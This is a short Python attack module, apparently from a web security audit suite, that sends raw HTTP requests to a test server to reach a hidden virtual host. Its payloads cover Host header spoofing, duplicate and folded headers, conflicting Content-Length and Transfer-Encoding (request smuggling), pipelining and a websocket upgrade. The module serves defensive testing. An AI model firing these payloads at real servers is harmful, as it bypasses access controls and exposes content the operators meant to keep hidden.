"""Asks the allowed host for another one: by Host, by smuggling a second request, by upgrading."""

from pacabench.audit.attacks.kit import ALLOWED, Found, Given, found, leaked, must_work, raw_http

_OTHER = "Host: other.audit.test\r\n"


def attack(given: Given) -> Found:
    """See above."""
    port = given["web_port"]
    must_work(port)
    start, own = f"http://{ALLOWED}/ HTTP/1.1\r\n", f"Host: {ALLOWED}\r\n"
    hidden = f"GET /hidden HTTP/1.1\r\n{_OTHER}\r\n"
    framed = f"Content-Length: {len(hidden) + 5}\r\nTransfer-Encoding: chunked\r\n"
    requests = {
        "host": f"GET {start}{_OTHER}\r\n",
        "two hosts": f"GET {start}{own}{_OTHER}\r\n",
        "folded": f"GET {start}{own} {_OTHER}\r\n",
        "both framings": f"GET {start}{own}{framed}\r\n0\r\n\r\n{hidden}",
        "bare LF": f"GET {start}{own}X: y\n{_OTHER}\r\n",
        "pipelined": f"GET {start}{own}\r\n{hidden}",
        "upgrade": f"GET {start}{own}Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n{hidden}",
        "space": f"GET {start}{own}Transfer-Encoding : chunked\r\n\r\n{hidden}",
    }
    seen = {name: raw_http(port, text.encode())[:300] for name, text in requests.items()}
    return found(leaked(seen), answers=seen)
